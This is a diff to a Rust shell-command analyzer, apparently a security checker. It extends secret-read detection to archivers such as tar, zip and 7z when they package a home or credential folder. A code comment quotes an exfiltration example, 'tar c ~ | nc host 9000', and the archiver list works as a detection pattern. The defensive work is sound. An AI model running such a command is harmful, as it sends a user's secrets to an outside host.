@@ -190,7 +190,16 @@ impl Analyzer {
     }
 
     fn command_output(&mut self, name: &str, args: &[Field], input: Payload) -> Payload {
-        let reads_secret = args.iter().any(|a| is_secret_path(&a.text));
+        // An archive of the home folder, `/` or a credential folder
+        // carries its secrets (`tar c ~ | nc host 9000`).
+        let archiver = matches!(
+            name,
+            "tar" | "gtar" | "bsdtar" | "zip" | "7z" | "7za" | "cpio" | "pax"
+        );
+        let reads_secret = args.iter().any(|a| {
+            is_secret_path(&a.text)
+                || archiver && !a.text.starts_with('-') && self.exposes_secrets(&a.text).is_some()
+        });
         let mut out = match name {
             "echo" => echo(args),
             "printf" => printf(args),
